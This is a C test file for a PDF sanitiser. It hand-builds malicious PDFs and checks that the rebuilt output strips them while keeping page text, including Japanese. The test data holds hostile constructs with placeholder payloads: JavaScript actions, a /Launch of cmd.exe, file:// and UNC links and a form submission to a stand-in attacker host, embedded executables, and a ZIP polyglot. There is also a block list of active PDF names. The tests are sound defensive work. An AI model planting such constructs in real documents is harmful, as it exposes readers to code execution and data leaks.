/* test_pdf.c - the PDF filter: for each hostile construct of THREATS.md 37-44
 * (JavaScript in /OpenAction, the /Names tree, /AA, annotations and form
 * fields; /Launch, /URI file://, /GoToR, /SubmitForm; embedded files; XFA;
 * rich media; a hex-escaped /J#61vaScript inside an object stream; a payload
 * in an older incremental revision or an unreferenced object) the rebuilt PDF
 * holds none of it, in its bytes or its inflated streams, while the page text
 * survives, Japanese included. Also: passwords, limits, raster mode, the
 * annotation policy, and a second pass giving the same bytes. The renderer's
 * own budget: images declared 30000 x 30000, a Type 3 glyph drawing itself,
 * a self-painting pattern and a 4^13 form XObject bomb (test/gen/hostile_pdf.py)
 * each remove the part with the limit named, and the process goes on. A
 * TrueType font's hinting programs (fpgm, prep, cvt) do not cross.
 *
 * The PDFs are written here by hand (a small writer with classic xref tables,
 * xref streams, object streams, incremental updates and RC4 encryption), or
 * drawn with cairo in an IPA font and then given hostile objects by an
 * incremental update. */
#include <cairo-pdf.h>
#include <cairo.h>
#include <gio/gio.h>
#include <poppler.h>
#include <stdarg.h>
#include <string.h>

#include "filters/pdf.h"
#include "filters/registry.h"
#include "filter_test.h"

#define JAPANESE_TEXT "無害化テスト：日本語のページ ①㈱髙"

/* --- a small PDF writer ------------------------------------------------ */

typedef struct {
  guint8 type;    /* 0 free, 1 at an offset, 2 in an object stream */
  guint64 field2; /* offset, or the object stream's number */
  guint field3;   /* generation, or the index in the stream */
} XrefEntry;

typedef struct {
  GString *data;
  GArray *entries; /* XrefEntry, indexed by object number */
  gint64 prev;     /* startxref of the revision updated, or -1 */
} TestPdf;

static TestPdf *
tp_new (void)
{
  TestPdf *tp = g_new0 (TestPdf, 1);

  tp->data = g_string_new ("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
  tp->entries = g_array_new (FALSE, TRUE, sizeof (XrefEntry));
  tp->prev = -1;
  return tp;
}

/* An incremental update of BASE: new objects are appended after it. */
static TestPdf *
tp_update (GBytes *base)
{
  TestPdf *tp = tp_new ();
  gsize len;
  const char *d = g_bytes_get_data (base, &len);
  gsize tail = MIN (len, 64);
  const char *startxref = memmem (d + len - tail, tail, "startxref", 9);

  g_assert_nonnull (startxref);
  g_string_truncate (tp->data, 0);
  g_string_append_len (tp->data, d, len);
  if (len > 0 && d[len - 1] != '\n')
    g_string_append_c (tp->data, '\n');
  tp->prev = g_ascii_strtoll (startxref + 9, NULL, 10);
  return tp;
}

static void
tp_set_entry (TestPdf *tp, guint num, guint8 type, guint64 field2, guint field3)
{
  XrefEntry e = { type, field2, field3 };

  if (tp->entries->len <= num)
    g_array_set_size (tp->entries, num + 1);
  g_array_index (tp->entries, XrefEntry, num) = e;
}

static void tp_obj (TestPdf *tp, guint num, const char *format, ...) G_GNUC_PRINTF (3, 4);

static void
tp_obj (TestPdf *tp, guint num, const char *format, ...)
{
  va_list args;

  tp_set_entry (tp, num, 1, tp->data->len, 0);
  g_string_append_printf (tp->data, "%u 0 obj\n", num);
  va_start (args, format);
  g_string_append_vprintf (tp->data, format, args);
  va_end (args);
  g_string_append (tp->data, "\nendobj\n");
}

/* A stream object: DICT (entries without << >> and /Length) and LEN bytes. */
static void
tp_stream (TestPdf *tp, guint num, const char *dict, const void *data, gssize len)
{
  gsize n = len < 0 ? strlen (data) : (gsize) len;

  tp_set_entry (tp, num, 1, tp->data->len, 0);
  g_string_append_printf (tp->data, "%u 0 obj\n<< %s /Length %zu >>\nstream\n", num, dict, n);
  g_string_append_len (tp->data, data, n);
  g_string_append (tp->data, "\nendstream\nendobj\n");
}

/* Object stream NUM holding the N objects MEMBERS with BODIES. */
static void
tp_objstm (TestPdf *tp, guint num, const guint *members, const char *const *bodies, guint n)
{
  g_autoptr (GString) head = g_string_new (NULL);
  g_autoptr (GString) objects = g_string_new (NULL);

  for (guint i = 0; i < n; i++) {
    g_string_append_printf (head, "%u %zu ", members[i], objects->len);
    g_string_append_printf (objects, "%s\n", bodies[i]);
    tp_set_entry (tp, members[i], 2, num, i);
  }
  g_autofree char *dict = g_strdup_printf ("/Type /ObjStm /N %u /First %zu", n, head->len);
  g_string_append_len (head, objects->str, objects->len);
  tp_stream (tp, num, dict, head->str, head->len);
}

static GBytes *
tp_free_to_bytes (TestPdf *tp)
{
  g_array_unref (tp->entries);
  GBytes *bytes = g_string_free_to_bytes (tp->data);
  g_free (tp);
  return bytes;
}

/* A classic xref table and trailer (TRAILER: extra entries, /Root included). */
static GBytes *
tp_finish (TestPdf *tp, const char *trailer)
{
  gsize xref = tp->data->len;

  g_string_append (tp->data, "xref\n");
  if (tp->prev < 0)
    g_string_append (tp->data, "0 1\n0000000000 65535 f \n");
  for (guint i = 1; i < tp->entries->len; i++) {
    XrefEntry *e = &g_array_index (tp->entries, XrefEntry, i);
    if (e->type == 1)
      g_string_append_printf (tp->data, "%u 1\n%010" G_GUINT64_FORMAT " 00000 n \n", i,
                              e->field2);
  }
  g_string_append_printf (tp->data, "trailer\n<< /Size %u %s", tp->entries->len, trailer);
  if (tp->prev >= 0)
    g_string_append_printf (tp->data, " /Prev %" G_GINT64_FORMAT, tp->prev);
  g_string_append_printf (tp->data, " >>\nstartxref\n%zu\n%%%%EOF\n", xref);
  return tp_free_to_bytes (tp);
}

/* An uncompressed xref stream (PDF 1.5) as object NUM, then the trailer. */
static GBytes *
tp_finish_xref_stream (TestPdf *tp, guint num, const char *trailer)
{
  g_autoptr (GByteArray) rows = g_byte_array_new ();

  tp_set_entry (tp, num, 1, tp->data->len, 0);
  for (guint i = 0; i < tp->entries->len; i++) {
    XrefEntry *e = &g_array_index (tp->entries, XrefEntry, i);
    guchar row[7] = { e->type,   e->field2 >> 24, e->field2 >> 16, e->field2 >> 8,
                      e->field2, e->field3 >> 8,  e->field3 };
    if (i == 0)
      row[5] = row[6] = 0xff;
    g_byte_array_append (rows, row, sizeof row);
  }
  gsize xref = tp->data->len;
  g_autofree char *dict = g_strdup_printf ("/Type /XRef /Size %u /W [1 4 2] %s",
                                           tp->entries->len, trailer);
  tp_stream (tp, num, dict, rows->data, rows->len);
  g_string_append_printf (tp->data, "startxref\n%zu\n%%%%EOF\n", xref);
  return tp_free_to_bytes (tp);
}

/* Objects 1-5: catalog, pages, one page showing TEXT in Helvetica, its
 * content, its font. CATALOG and PAGE are added to those dictionaries. */
static void
tp_page (TestPdf *tp, const char *text, const char *catalog, const char *page)
{
  g_autofree char *content = g_strdup_printf ("BT /F1 18 Tf 50 700 Td (%s) Tj ET", text);

  tp_obj (tp, 1, "<< /Type /Catalog /Pages 2 0 R %s >>", catalog);
  tp_obj (tp, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
  tp_obj (tp, 3,
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
          "/Resources << /Font << /F1 5 0 R >> >> %s >>",
          page);
  tp_stream (tp, 4, "", content, -1);
  tp_obj (tp, 5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
}

/* --- looking at the output --------------------------------------------- */

/* DATA with every #xx escape of a name decoded, so /J#61vaScript reads as
 * /JavaScript. */
static GString *
names_decoded (const char *data, gsize len)
{
  GString *out = g_string_sized_new (len);

  for (gsize i = 0; i < len; i++) {
    if (data[i] == '#' && i + 2 < len && g_ascii_isxdigit (data[i + 1]) &&
        g_ascii_isxdigit (data[i + 2])) {
      g_string_append_c (out, (char) (g_ascii_xdigit_value (data[i + 1]) * 16 +
                                      g_ascii_xdigit_value (data[i + 2])));
      i += 2;
    } else {
      g_string_append_c (out, data[i]);
    }
  }
  return out;
}

/* The zlib-inflated LEN bytes of DATA, or NULL when they are not zlib data. */
static GBytes *
inflate (const char *data, gsize len)
{
  g_autoptr (GZlibDecompressor) z = g_zlib_decompressor_new (G_ZLIB_COMPRESSOR_FORMAT_ZLIB);
  g_autoptr (GByteArray) out = g_byte_array_new ();
  guchar buffer[16384];
  gsize read = 0, written;

  for (;;) {
    GConverterResult r = g_converter_convert (G_CONVERTER (z), data + read, len - read, buffer,
                                              sizeof buffer, G_CONVERTER_INPUT_AT_END, &read,
                                              &written, NULL);
    if (r == G_CONVERTER_ERROR)
      return NULL;
    g_byte_array_append (out, buffer, written);
    data += read;
    len -= read;
    if (r == G_CONVERTER_FINISHED || (len == 0 && written == 0))
      break;
    read = 0;
  }
  return g_byte_array_free_to_bytes (g_steal_pointer (&out));
}

/* The output as text to search: its bytes and every stream inflated, with
 * name escapes decoded. */
static GString *
haystack (GBytes *pdf)
{
  gsize len;
  const char *d = g_bytes_get_data (pdf, &len);
  GString *hay = names_decoded (d, len);
  const char *p = d, *end = d + len;

  while ((p = memmem (p, end - p, "stream", 6)) != NULL) {
    const char *start = p + 6;
    start += start < end && *start == '\r';
    start += start < end && *start == '\n';
    const char *stop = memmem (start, end - start, "endstream", 9);
    if (stop == NULL)
      break;
    g_autoptr (GBytes) inflated = inflate (start, stop - start);
    if (inflated != NULL) {
      gsize n;
      const char *text = g_bytes_get_data (inflated, &n);
      g_autoptr (GString) decoded = names_decoded (text, n);
      g_string_append_len (hay, decoded->str, decoded->len);
    }
    p = stop + 9;
  }
  return hay;
}

/* TRUE when HAY holds the PDF name NAME as a whole token. */
static gboolean
has_name (const GString *hay, const char *name)
{
  gsize n = strlen (name);

  for (const char *p = hay->str; (p = memmem (p, hay->str + hay->len - p, name, n)) != NULL;
       p++) {
    char next = p + n < hay->str + hay->len ? p[n] : ' ';
    if (strchr (" \t\r\n\f()<>[]{}/%", next) != NULL || next == '\0')
      return TRUE;
  }
  return FALSE;
}

static const char *const forbidden_names[] = {
  "/JavaScript",
  "/JS",
  "/OpenAction",
  "/AA",
  "/Launch",
  "/URI",
  "/EmbeddedFile",
  "/EmbeddedFiles",
  "/XFA",
  "/AcroForm",
  "/Annots",
  "/SubmitForm",
  "/ImportData",
  "/GoToR",
  "/GoToE",
  "/RichMedia",
  "/RichMediaContent",
  "/3D",
  "/Movie",
  "/Sound",
  "/Filespec",
  "/FileAttachment",
  "/Widget",
  "/Names",
  "/Outlines",
  "/Metadata",
  NULL,
};

/* None of the active names, nor any PAYLOADS string, is in OUTPUT. */
static void
assert_clean (GBytes *output, const char *const *payloads)
{
  g_autoptr (GString) hay = haystack (output);

  for (guint i = 0; forbidden_names[i] != NULL; i++)
    if (has_name (hay, forbidden_names[i]))
      g_error ("the rebuilt PDF holds %s", forbidden_names[i]);
  for (guint i = 0; payloads != NULL && payloads[i] != NULL; i++)
    if (memmem (hay->str, hay->len, payloads[i], strlen (payloads[i])) != NULL)
      g_error ("the rebuilt PDF holds %s", payloads[i]);
}

/* poppler-glib warns about the hostile constructs themselves (unsupported
 * annotation types...): expected here, not a failure. GTest resets the
 * handler for each test, so every test that runs poppler sets it. */
static gboolean
poppler_warnings_not_fatal (const char *domain, GLogLevelFlags level, const char *message,
                            gpointer data)
{
  (void) level;
  (void) message;
  (void) data;
  return g_strcmp0 (domain, "Poppler") != 0;
}

static PopplerDocument *
open_pdf (GBytes *pdf)
{
  g_autoptr (GError) error = NULL;
  PopplerDocument *doc;

  g_test_log_set_fatal_handler (poppler_warnings_not_fatal, NULL);
  doc = poppler_document_new_from_bytes (pdf, NULL, &error);

  g_assert_no_error (error);
  return doc;
}

/* The text poppler extracts from every page of PDF. */
static char *
pdf_text (GBytes *pdf)
{
  PopplerDocument *doc = open_pdf (pdf);
  GString *text = g_string_new (NULL);

  for (int i = 0; i < poppler_document_get_n_pages (doc); i++) {
    PopplerPage *page = poppler_document_get_page (doc, i);
    g_autofree char *t = poppler_page_get_text (page);
    g_string_append (text, t);
    g_string_append_c (text, '\n');
    g_object_unref (page);
  }
  g_object_unref (doc);
  return g_string_free (text, FALSE);
}

/* Pixels darker than mid-grey when page INDEX of PDF is drawn at 72 dpi. */
static guint
dark_pixels (GBytes *pdf, int index)
{
  PopplerDocument *doc = open_pdf (pdf);
  PopplerPage *page = poppler_document_get_page (doc, index);
  double w, h;
  guint dark = 0;

  poppler_page_get_size (page, &w, &h);
  cairo_surface_t *s = cairo_image_surface_create (CAIRO_FORMAT_RGB24, (int) w, (int) h);
  cairo_t *cr = cairo_create (s);
  cairo_set_source_rgb (cr, 1, 1, 1);
  cairo_paint (cr);
  poppler_page_render (page, cr);
  cairo_destroy (cr);
  cairo_surface_flush (s);
  const guchar *px = cairo_image_surface_get_data (s);
  for (int y = 0; y < (int) h; y++)
    for (int x = 0; x < (int) w; x++)
      dark += px[y * cairo_image_surface_get_stride (s) + x * 4 + 1] < 128;
  cairo_surface_destroy (s);
  g_object_unref (page);
  g_object_unref (doc);
  return dark;
}

/* --- running the filter ------------------------------------------------ */

static void
run_pdf (GBytes *input, MgFilterResult *result)
{
  MgFilterInput in = { .detected_type = "application/pdf",
                       .filename = "a.pdf",
                       .config = config };
  g_autoptr (GError) error = NULL;

  memset (result, 0, sizeof *result);
  g_test_log_set_fatal_handler (poppler_warnings_not_fatal, NULL);
  g_assert_true (mg_filter_pdf.sanitise (input, &in, result, &error));
  g_assert_no_error (error);
  g_assert_true (result->output == NULL || result->output != input);
}

/* INPUT is rebuilt, carries nothing active nor PAYLOADS, and its text has VISIBLE. */
static void
assert_rebuilt (GBytes *input, const char *visible, const char *const *payloads)
{
  MgFilterResult r;

  run_pdf (input, &r);
  if (r.action != MG_ACTION_CONVERTED)
    g_error ("not rebuilt: %s", r.detail);
  g_assert_cmpint (r.reason, ==, MG_REASON_PDF_REBUILT);
  g_assert_false (g_bytes_equal (r.output, input));
  g_assert_cmpstr (r.output_type, ==, "application/pdf");
  g_assert_cmpstr (r.output_extension, ==, ".pdf");
  assert_clean (r.output, payloads);
  g_autofree char *text = pdf_text (r.output);
  if (strstr (text, visible) == NULL)
    g_error ("the page text %s is lost; the output reads: %s", visible, text);
  mg_filter_result_clear (&r);
}

/* --- hostile constructs ------------------------------------------------ */

static void
test_openaction_javascript (void)
{
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-OPENACTION", "/OpenAction 6 0 R", "");
  tp_obj (tp, 6,
          "<< /Type /Action /S /JavaScript /JS (app.alert\\('PAYLOAD-OPENACTION'\\)) "
          "/Next << /S /JavaScript /JS 7 0 R >> >>");
  tp_stream (tp, 7, "", "this.exportDataObject({cName: 'PAYLOAD-JSSTREAM'})", -1);
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  assert_rebuilt (pdf, "VISIBLE-OPENACTION",
                  (const char *[]){ "PAYLOAD-OPENACTION", "PAYLOAD-JSSTREAM", NULL });
}

static void
test_names_tree_and_aa (void)
{
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-AA",
           "/Names << /JavaScript << /Names [(init) 6 0 R] >> >> "
           "/AA << /WC << /S /JavaScript /JS (PAYLOAD-DOC-AA) >> >>",
           "/AA << /O << /S /JavaScript /JS (PAYLOAD-PAGE-AA) >> >>");
  tp_obj (tp, 6, "<< /S /JavaScript /JS (PAYLOAD-NAMES-TREE) >>");
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  assert_rebuilt (
      pdf, "VISIBLE-AA",
      (const char *[]){ "PAYLOAD-DOC-AA", "PAYLOAD-PAGE-AA", "PAYLOAD-NAMES-TREE", NULL });
}

/* A page showing VISIBLE with one annotation marked printable for each of
 * the N ANNOTS (the annotation's entries besides /Type, /F and /Rect). */
static GBytes *
annotated_page (const char *visible, const char *const *annots, guint n)
{
  TestPdf *tp = tp_new ();
  g_autoptr (GString) refs = g_string_new ("/Annots [");

  for (guint i = 0; i < n; i++)
    g_string_append_printf (refs, " %u 0 R", 6 + i);
  g_string_append (refs, " ]");
  tp_page (tp, visible, "", refs->str);
  for (guint i = 0; i < n; i++)
    tp_obj (tp, 6 + i, "<< /Type /Annot %s /F 4 /Rect [50 %u 300 %u] >>", annots[i],
            600 - 30 * i, 620 - 30 * i);
  return tp_finish (tp, "/Root 1 0 R");
}

/* Link annotations with every kind of outward action. */
static void
test_link_actions (void)
{
  static const char *const links[] = {
    "/Subtype /Link /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) "
    "/P (/c PAYLOAD-LAUNCH) >> >>",
    "/Subtype /Link /A << /S /URI /URI (file://attacker.example/share/PAYLOAD-URI) >>",
    "/Subtype /Link /A << /S /URI /URI (\\\\\\\\attacker.example\\\\PAYLOAD-UNC) >>",
    "/Subtype /Link /A << /S /GoToR /F (PAYLOAD-GOTOR.pdf) /D [0 /Fit] >>",
    "/Subtype /Link /A << /S /GoToE /T << /R /C /N (PAYLOAD-GOTOE) >> >>",
    "/Subtype /Link /A << /S /SubmitForm /F << /FS /URL "
    "/F (https://attacker.example/PAYLOAD-SUBMIT) >> >>",
    "/Subtype /Link /A << /S /ImportData /F (PAYLOAD-IMPORT.fdf) >>",
  };
  g_autoptr (GBytes) pdf = annotated_page ("VISIBLE-LINKS", links, G_N_ELEMENTS (links));

  assert_rebuilt (pdf, "VISIBLE-LINKS",
                  (const char *[]){ "PAYLOAD", "attacker.example", "cmd.exe", NULL });
}

/* Embedded files in the names tree and as a printable file attachment. */
static void
test_embedded_files (void)
{
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-EMBEDDED", "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
           "/Annots [8 0 R]");
  tp_obj (tp, 6, "<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 7 0 R >> >>");
  tp_stream (tp, 7, "/Type /EmbeddedFile /Subtype /application#2Foctet-stream",
             "MZ PAYLOAD-EMBEDDED-FILE", -1);
  tp_obj (tp, 8,
          "<< /Type /Annot /Subtype /FileAttachment /F 4 /Rect [50 500 70 520] "
          "/FS 6 0 R /Contents (PAYLOAD-ATTACHMENT-NOTE) /Name /PushPin >>");
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  assert_rebuilt (pdf, "VISIBLE-EMBEDDED",
                  (const char *[]){ "PAYLOAD", "MZ ", "a.exe", NULL });
}

/* An AcroForm with XFA and a field that runs JavaScript; the field's value
 * is drawn into the page (flattened) with [pdf] annotations = print. */
static GBytes *
form_pdf (void)
{
  static const char xfa[] =
      "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><field>"
      "<event activity=\"initialize\"><script contentType=\"application/x-javascript\">"
      "app.alert('PAYLOAD-XFA')</script></event></field></subform></template></xdp:xdp>";
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-FORM",
           "/AcroForm << /Fields [6 0 R] /XFA 7 0 R "
           "/DR << /Font << /Helv 5 0 R >> >> /DA (/Helv 12 Tf 0 g) >>",
           "/Annots [6 0 R]");
  tp_obj (tp, 6,
          "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (FIELD-VALUE) "
          "/F 4 /P 3 0 R /Rect [50 600 300 630] /DA (/Helv 12 Tf 0 g) /AP << /N 8 0 R >> "
          "/AA << /K << /S /JavaScript /JS (PAYLOAD-FIELD-KEYSTROKE) >> "
          "/Fo << /S /JavaScript /JS (PAYLOAD-FIELD-FOCUS) >> >> >>");
  tp_stream (tp, 7, "", xfa, -1);
  tp_stream (tp, 8,
             "/Type /XObject /Subtype /Form /BBox [0 0 250 30] "
             "/Resources << /Font << /Helv 5 0 R >> >>",
             "/Tx BMC BT /Helv 12 Tf 2 10 Td (FIELD-VALUE) Tj ET EMC", -1);
  return tp_finish (tp, "/Root 1 0 R");
}

static void
test_acroform_xfa (void)
{
  g_autoptr (GBytes) pdf = form_pdf ();

  assert_rebuilt (pdf, "VISIBLE-FORM", (const char *[]){ "PAYLOAD", "xdp:xdp", "/Tx", NULL });
  assert_rebuilt (pdf, "FIELD-VALUE", NULL);
}

/* Rich media, 3D, movie, sound and screen annotations. */
static void
test_multimedia_annotations (void)
{
  static const char *const kinds[] = {
    "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) << /Type /Filespec "
    "/F (PAYLOAD-SWF) >>] >> >>",
    "/Subtype /3D /3DD << /Type /3D /Subtype /U3D >> /3DA << /A /PO >>",
    "/Subtype /Movie /Movie << /F (PAYLOAD-MOVIE.avi) >>",
    "/Subtype /Sound /Sound << /R 8000 /Length 0 >>",
    "/Subtype /Screen /A << /S /Rendition /JS (PAYLOAD-RENDITION) >>",
  };
  g_autoptr (GBytes) pdf = annotated_page ("VISIBLE-MEDIA", kinds, G_N_ELEMENTS (kinds));

  assert_rebuilt (pdf, "VISIBLE-MEDIA", (const char *[]){ "PAYLOAD", "U3D", NULL });
}

/* JavaScript behind /J#61vaScript, in an object stream found through an
 * xref stream; an unreferenced object carries another payload. */
static void
test_object_stream_hex_name (void)
{
  TestPdf *tp = tp_new ();
  const guint members[] = { 6, 7 };
  const char *const bodies[] = {
    "<< /S /J#61vaScript /#4AS (PAYLOAD-OBJSTM) >>",
    "<< /#4Aava#53cript << /Names [(x) 6 0 R] >> >>",
  };

  tp_page (tp, "VISIBLE-OBJSTM", "/OpenAction 6 0 R /Names 7 0 R", "");
  tp_objstm (tp, 8, members, bodies, G_N_ELEMENTS (members));
  tp_obj (tp, 9, "<< /S /JavaScript /JS (PAYLOAD-UNREFERENCED) >>");
  g_autoptr (GBytes) pdf = tp_finish_xref_stream (tp, 10, "/Root 1 0 R");
  assert_rebuilt (pdf, "VISIBLE-OBJSTM",
                  (const char *[]){ "PAYLOAD-OBJSTM", "PAYLOAD-UNREFERENCED", NULL });
}

/* The first revision has a script and text that a later revision replaced. */
static void
test_older_revision (void)
{
  TestPdf *tp = tp_new ();

  tp_page (tp, "OLD-REVISION-TEXT", "/OpenAction << /S /JavaScript /JS (PAYLOAD-OLDREV) >>",
           "");
  g_autoptr (GBytes) base = tp_finish (tp, "/Root 1 0 R");
  tp = tp_update (base);
  tp_obj (tp, 1, "<< /Type /Catalog /Pages 2 0 R >>");
  tp_stream (tp, 4, "", "BT /F1 18 Tf 50 700 Td (VISIBLE-NEWREV) Tj ET", -1);
  tp_set_entry (tp, 5, 0, 0, 0);
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  assert_rebuilt (pdf, "VISIBLE-NEWREV",
                  (const char *[]){ "PAYLOAD-OLDREV", "OLD-REVISION", NULL });
}

/* THREATS 58: a PDF with a ZIP after its %EOF (a polyglot) keeps only the PDF. */
static void
test_polyglot_zip_tail (void)
{
  static const char zip[] = "PK\x03\x04\x0a\0\0\0\0\0\0\0\0\0\0\0\0\0\x0f\0\0\0"
                            "\x0f\0\0\0\x05\0\0\0a.batPAYLOAD-ZIP-TAIL";
  TestPdf *tp = tp_new ();

  tp_page (tp, "VISIBLE-POLYGLOT", "", "");
  g_autoptr (GBytes) clean = tp_finish (tp, "/Root 1 0 R");
  g_autoptr (GByteArray) both = g_byte_array_new ();
  g_byte_array_append (both, g_bytes_get_data (clean, NULL), g_bytes_get_size (clean));
  g_byte_array_append (both, (const guchar *) zip, sizeof zip - 1);
  g_autoptr (GBytes) pdf = g_byte_array_free_to_bytes (g_steal_pointer (&both));
  assert_rebuilt (pdf, "VISIBLE-POLYGLOT",
                  (const char *[]){ "PK\x03\x04", "PAYLOAD-ZIP-TAIL", NULL });
}

/* --- Japanese ---------------------------------------------------------- */

static cairo_status_t
append_bytes (void *closure, const unsigned char *data, unsigned int len)
{
  g_byte_array_append (closure, data, len);
  return CAIRO_STATUS_SUCCESS;
}

/* A two-page A4 PDF drawn by cairo in IPA Mincho: TEXT on page 1, a numbered
 * line on page 2. */
static GBytes *
cairo_japanese_pdf (const char *text)
{
  GByteArray *out = g_byte_array_new ();
  cairo_surface_t *s = cairo_pdf_surface_create_for_stream (append_bytes, out, 595, 842);
  cairo_t *cr = cairo_create (s);

  cairo_select_font_face (cr, "IPAMincho", CAIRO_FONT_SLANT_NORMAL, CAIRO_FONT_WEIGHT_NORMAL);
  cairo_set_font_size (cr, 16);
  cairo_move_to (cr, 50, 100);
  cairo_show_text (cr, text);
  cairo_show_page (cr);
  cairo_move_to (cr, 50, 100);
  cairo_show_text (cr, "二ページ目です");
  cairo_show_page (cr);
  cairo_destroy (cr);
  cairo_surface_finish (s);
  g_assert_cmpint (cairo_surface_status (s), ==, CAIRO_STATUS_SUCCESS);
  cairo_surface_destroy (s);
  return g_byte_array_free_to_bytes (out);
}

/* The number of the first object in TEXT whose dictionary starts with START,
 * and its dictionary without the closing >> in *DICT_R. */
static guint
find_object (const char *text, const char *start, char **dict_r)
{
  g_autofree char *pattern = g_strdup_printf (
      "(\\d+) 0 obj\\s*(%s[^\\w][\\s\\S]*?)>>\\s*endobj", start);
  g_autoptr (GRegex) re = g_regex_new (pattern, G_REGEX_RAW, 0, NULL);
  g_autoptr (GMatchInfo) m = NULL;

  g_assert_true (g_regex_match (re, text, 0, &m));
  g_autofree char *num = g_match_info_fetch (m, 1);
  *dict_r = g_match_info_fetch (m, 2);
  return (guint) g_ascii_strtoull (num, NULL, 10);
}

/* BASE (a cairo PDF) with an update that adds an open action, a page action,
 * an embedded file and a link to its catalog and first page. */
static GBytes *
add_hostile_update (GBytes *base)
{
  gsize len;
  const char *data = g_bytes_get_data (base, &len);
  g_autofree char *text = g_malloc (len + 1);
  g_autofree char *catalog = NULL;
  g_autofree char *page = NULL;

  for (gsize i = 0; i < len; i++) /* binary streams: no NUL in the text */
    text[i] = data[i] != '\0' ? data[i] : ' ';
  text[len] = '\0';
  guint root = find_object (text, "<< /Type /Catalog", &catalog);
  guint first = find_object (text, "<< /Type /Page", &page);
  const char *size = strstr (text, "/Size ");
  guint next = (guint) g_ascii_strtoull (size + 6, NULL, 10);
  TestPdf *tp = tp_update (base);

  tp_obj (tp, root,
          "%s /OpenAction << /S /JavaScript /JS (PAYLOAD-JA-OPEN) >> "
          "/Names << /EmbeddedFiles << /Names [(x.exe) %u 0 R] >> >> >>",
          catalog, next);
  tp_obj (tp, first,
          "%s\n/AA << /O << /S /Launch /F (PAYLOAD-JA-LAUNCH.exe) >> >> "
          "/Annots [<< /Type /Annot /Subtype /Link /F 4 /Rect [0 0 595 842] "
          "/A << /S /URI /URI (file://PAYLOAD-JA-URI/share) >> >>] >>",
          page);
  tp_obj (tp, next, "<< /Type /Filespec /F (x.exe) /EF << /F %u 0 R >> >>", next + 1);
  tp_stream (tp, next + 1, "/Type /EmbeddedFile", "PAYLOAD-JA-EMBEDDED", -1);
  g_autofree char *trailer = g_strdup_printf ("/Root %u 0 R", root);
  return tp_finish (tp, trailer);
}

static void
test_japanese_text_survives (void)
{
  g_autoptr (GBytes) base = cairo_japanese_pdf (JAPANESE_TEXT);
  g_autoptr (GBytes) pdf = add_hostile_update (base);
  g_autofree char *before = pdf_text (pdf);

  g_assert_nonnull (strstr (before, JAPANESE_TEXT));
  assert_rebuilt (pdf, JAPANESE_TEXT, (const char *[]){ "PAYLOAD", NULL });
  assert_rebuilt (pdf, "二ページ目です", NULL);
}

/* A Japanese CID font that is not embedded (Ryumin-Light, UniJIS-UCS2-H)
 * is drawn with a substitute (IPA) and embedded in the output. */
static void
test_japanese_font_not_embedded (void)
{
  TestPdf *tp = tp_new ();
  MgFilterResult r;

  tp_obj (tp, 1, "<< /Type /Catalog /Pages 2 0 R >>");
  tp_obj (tp, 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
  tp_obj (tp, 3,
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
          "/Resources << /Font << /F1 5 0 R >> >> >>");
  /* 日本語の文書 in UCS-2 */
  tp_stream (tp, 4, "", "BT /F1 36 Tf 50 700 Td <65E5672C8A9E306E658766F8> Tj ET", -1);
  tp_obj (tp, 5,
          "<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding "
          "/UniJIS-UCS2-H /DescendantFonts [6 0 R] >>");
  tp_obj (tp, 6,
          "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light "
          "/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> "
          "/FontDescriptor 7 0 R >>");
  tp_obj (tp, 7,
          "<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox "
          "[0 -141 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 709 "
          "/StemV 69 >>");
  g_autoptr (GBytes) pdf = tp_finish (tp, "/Root 1 0 R");
  run_pdf (pdf, &r);
  g_assert_cmpint (r.action, ==, MG_ACTION_CONVERTED);
  g_autofree char *text = pdf_text (r.output);
  g_assert_nonnull (strstr (text, "日本語の文書"));
  g_assert_cmpuint (dark_pixels (r.output, 0), >, 200);
  g_assert_nonnull (
      memmem (g_bytes_get_data (r.output, NULL), g_bytes_get_size (r.output), "/FontFile", 9));
  mg_filter_result_clear (&r);
}

/* --- passwords --------------------------------------------------------- */

static const guchar password_padding[32] = {
  0x28, 0xbf, 0x4e, 0x5e, 0x4e, 0x75, 0x8a, 0x41, 0x64, 0x00, 0x4e,
  0x56, 0xff, 0xfa, 0x01, 0x08, 0x2e, 0x2e, 0x00, 0xb6, 0xd0, 0x68,
  0x3e, 0x80, 0x2f, 0x0c, 0xa9, 0xfe, 0x64, 0x53, 0x69, 0x7a,
};

static void
rc4 (const guchar *key, gsize key_len, guchar *data, gsize len)
{
  guchar s[256];
  guint j = 0;

  for (guint i = 0; i < 256; i++)
    s[i] = i;
  for (guint i = 0; i < 256; i++) {
    j = (j + s[i] + key[i % key_len]) & 0xff;
    guchar t = s[i];
    s[i] = s[j];
    s[j] = t;
  }
  for (gsize n = 0, i = 0, k = 0; n < len; n++) {
    i = (i + 1) & 0xff;
    k = (k + s[i]) & 0xff;
    guchar t = s[i];
    s[i] = s[k];
    s[k] = t;
    data[n] ^= s[(s[i] + s[k]) & 0xff];
  }
}

